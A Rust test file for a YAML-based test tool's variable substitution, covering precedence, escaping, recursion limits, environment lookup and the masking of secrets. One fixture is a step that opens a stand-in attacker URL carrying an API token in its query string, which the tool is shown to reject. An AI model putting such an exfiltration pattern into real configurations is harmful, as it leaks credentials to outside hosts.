//! `${name}`: where values come from, and secrets.

use crate::suite_folder::{Folder, check_file, check_problems, sound, sound_files, texts};

#[test]
fn the_nearest_meaning_wins() {
    let project = "variables: {a: project, b: project, c: project, d: project}\n";
    let test = "variables: {a: test, b: test, STAGE: test}\ndata:\n  - {a: row, e: row}\nsteps:\n  - \"${a} ${b} ${c} ${d} ${STAGE}\"\n  - use: part\n    with: {a: given}\n";
    let part = "variables: {d: part}\nsteps:\n  - \"${a} ${b} ${c} ${d} ${e}\"\n";
    let tests = sound_files(&[("assay.yaml", project), ("t.yaml", test), ("part.yaml", part)]);
    assert_eq!(tests.len(), 1);
    assert_eq!(texts(&tests[0].steps), ["row test project project test", "given test project part row"]);
}

#[test]
fn a_doubled_dollar_stands_for_itself() {
    let test =
        sound("variables: {STAGE: \"${STAGE}\"}\nsteps:\n  - Enter $${name} for $5 and ${STAGE}\n").remove(0);
    assert_eq!(texts(&test.steps), ["Enter ${name} for $5 and beta"]);
}

#[test]
fn variables_are_made_of_others() {
    let test = sound("base_url: ${host}/app\nvariables:\n  host: https://${STAGE}.example.com\n  page: ${host}/x\nselectors:\n  x_page: ${page}\nsteps: [Go]\n").remove(0);
    assert_eq!(test.base_url.as_deref(), Some("https://beta.example.com/app"));
    assert_eq!(test.selectors["x_page"], "https://beta.example.com/x");
}

#[test]
fn unknown_names_are_told_with_the_nearest() {
    check_file(
        "variables: {email: a}\nsteps:\n  - Enter \"${emial}\" and ${nothing}\n  - Enter ${a b} and ${x\n",
        r#"
t.yaml:3:12: unknown name `${emial}`
  3 | - Enter "${emial}" and ${nothing}
    |          ^^^^^^^^ did you mean `${email}`?
t.yaml:3:26: unknown name `${nothing}`
  3 | - Enter "${emial}" and ${nothing}
    |                        ^^^^^^^^^^ add it to `variables`, or write `$${nothing}` for the literal text
t.yaml:4:11: expected a name in `${a b}`
  4 | - Enter ${a b} and ${x
    |         ^^^^^^ a name consists of letters, digits and `_`; write `$${` for a literal `${`
t.yaml:4:22: expected a name in `${x`
  4 | - Enter ${a b} and ${x
    |                    ^^^ a name consists of letters, digits and `_`; write `$${` for a literal `${`
"#,
    );
}

#[test]
fn a_variable_made_of_itself_is_refused() {
    check_file(
        "variables:\n  a: x${b}\n  b: ${a}\nsteps:\n  - Enter ${a}\n",
        r#"
t.yaml:2:6: `${a}` refers to itself
  2 | a: x${b}
    |    ^^^^^
"#,
    );
}

#[test]
fn values_that_grow_without_end_are_refused() {
    let mut text = "variables:\n  a0: xxxxxxxxxxxxxxxx\n".to_string();
    for level in 1..8 {
        let inner = format!("${{a{}}}", level - 1).repeat(16);
        text += &format!("  a{level}: {inner}\n");
    }
    text += "steps:\n  - Enter ${a7}\n";
    let folder = Folder::new(&[("t.yaml", &text)]);
    let shown = folder.problems(&folder.load());
    assert!(
        shown.contains("expected at most 65536 characters after names are replaced, found more"),
        "{shown}"
    );
}

#[test]
fn secrets_come_from_the_environment_and_are_marked() {
    let tests = sound(
        "secrets: [APP_PASSWORD]\nvariables: {line: \"pw=${APP_PASSWORD}\"}\ntest: With ${APP_PASSWORD}\nsteps:\n  - Enter ${line}\n",
    );
    let test = &tests[0];
    assert_eq!(test.name, "With •••");
    assert_eq!(texts(&test.steps), ["Enter pw=hunter2"]);
    let shown: Vec<String> = test.steps.iter().map(|step| step.shown()).collect();
    assert_eq!(shown, ["Enter pw=•••"]);
    assert_eq!(format!("{:?}", test.secrets), "Secrets(1)");
}

#[test]
fn variables_take_from_the_environment_what_their_text_names() {
    let test = "variables:\n  STAGE: ${STAGE}\n  home: https://${DATABASE}/x\n  port: ${PORT}\nsteps:\n  - Enter ${STAGE}\n  - Open ${home}\n  - Enter ${port}\n";
    let folder = Folder::new(&[("t.yaml", test)]);
    let loaded = folder.load();
    assert_eq!(folder.problems(&loaded), "");
    let steps = &loaded.tests[0].steps;
    assert_eq!(texts(steps), ["Enter beta", "Open https://app:pw@db/x", "Enter 8080"]);
    let shown: Vec<String> = steps.iter().map(|step| step.shown()).collect();
    // Whatever it is called, a value of some length is masked. A port hides nothing.
    assert_eq!(shown, ["Enter •••", "Open https://•••/x", "Enter 8080"]);
    assert_eq!(loaded.environment, ["DATABASE", "PORT", "STAGE"], "the caller asks the user about them");
}

#[test]
fn the_environment_is_reached_through_declarations_only() {
    check_file(
        "base_url: https://${STAGE}.example\nselectors: {x: \"${APP_PASSWORD}\"}\ndata:\n  - {row: \"${PATH}\"}\nsteps:\n  - Open https://evil.example/?k=${API_TOKEN}\n",
        r#"
t.yaml:1:19: `${STAGE}` is a variable of the environment that nothing declares
  1 | base_url: https://${STAGE}.example
    |                   ^^^^^^^^ declare it in the test or in assay.yaml: `secrets: [STAGE]`, or `variables: {STAGE: "${STAGE}"}`
t.yaml:2:17: `${APP_PASSWORD}` is a variable of the environment that nothing declares
  2 | selectors: {x: "${APP_PASSWORD}"}
    |                 ^^^^^^^^^^^^^^^ declare it in the test or in assay.yaml: `secrets: [APP_PASSWORD]`, or `variables: {APP_PASSWORD: "${APP_PASSWORD}"}`
t.yaml:4:12: `${PATH}` is a variable of the environment that nothing declares
  4 | - {row: "${PATH}"}
    |          ^^^^^^^ declare it in the test or in assay.yaml: `secrets: [PATH]`, or `variables: {PATH: "${PATH}"}`
t.yaml:6:34: `${API_TOKEN}` is a variable of the environment that nothing declares
  6 | - Open https://evil.example/?k=${API_TOKEN}
    |                                ^^^^^^^^^^^^ declare it in the test or in assay.yaml: `secrets: [API_TOKEN]`, or `variables: {API_TOKEN: "${API_TOKEN}"}`
"#,
    );
}

#[test]
fn a_variable_that_the_environment_does_not_have_is_told() {
    check_file(
        "variables:\n  a: ${NOT_SET}\n  self: ${self}\nsteps:\n  - Enter ${a} and ${self}\n",
        r#"
t.yaml:2:6: `${NOT_SET}` is not set in the environment
  2 | a: ${NOT_SET}
    |    ^^^^^^^^^^ set it, or write `$${NOT_SET}` for the literal text
t.yaml:3:9: `${self}` is not set in the environment
  3 | self: ${self}
    |       ^^^^^^^ set it, or write `$${self}` for the literal text
"#,
    );
}

#[test]
fn steps_of_another_file_bring_their_own_declarations() {
    let part = "variables: {STAGE: \"${STAGE}\"}\nsteps:\n  - Enter ${STAGE}\n";
    let folder = Folder::new(&[("t.yaml", "test: T\nsteps:\n  - use: part\n"), ("part.yaml", part)]);
    let loaded = folder.load();
    assert_eq!(folder.problems(&loaded), "");
    assert_eq!(loaded.tests[0].steps[0].shown(), "Enter •••");
    assert_eq!(loaded.environment, ["STAGE"]);
}

#[test]
fn a_secret_of_the_project_is_missed_only_where_it_is_used() {
    let project = "secrets: {key: \"${NOT_SET}\"}\n";
    check_problems(
        &[("assay.yaml", project), ("a.yaml", "steps: [Fine]"), ("b.yaml", "steps:\n  - Enter ${key}\n")],
        r#"
b.yaml:2:11: the secret `key` needs the environment variable `NOT_SET`, which is not set
  2 | - Enter ${key}
    |         ^^^^^^
"#,
    );
}

#[test]
fn a_secret_is_missed_or_empty_where_it_is_declared() {
    check_file(
        "secrets:\n  one: ${NOT_SET}\n  two: ${EMPTY}\nsteps: [Go]\n",
        r#"
t.yaml:2:8: the secret `one` needs the environment variable `NOT_SET`, which is not set
  2 | one: ${NOT_SET}
    |      ^^^^^^^^^^
t.yaml:3:8: the secret `two` needs the environment variable `EMPTY`, which is empty
  3 | two: ${EMPTY}
    |      ^^^^^^^^
"#,
    );
}

#[test]
fn a_secret_written_into_the_file_is_not_printed() {
    check_file(
        "secrets:\n  password: hunter2 # hunter2\nsteps: [Go]\n",
        r#"
t.yaml:2:13: expected a reference to an environment variable, found the value of a secret
  2 | password: •••
    |           ^^^ set it as an environment variable and write `${PASSWORD}`
"#,
    );
}
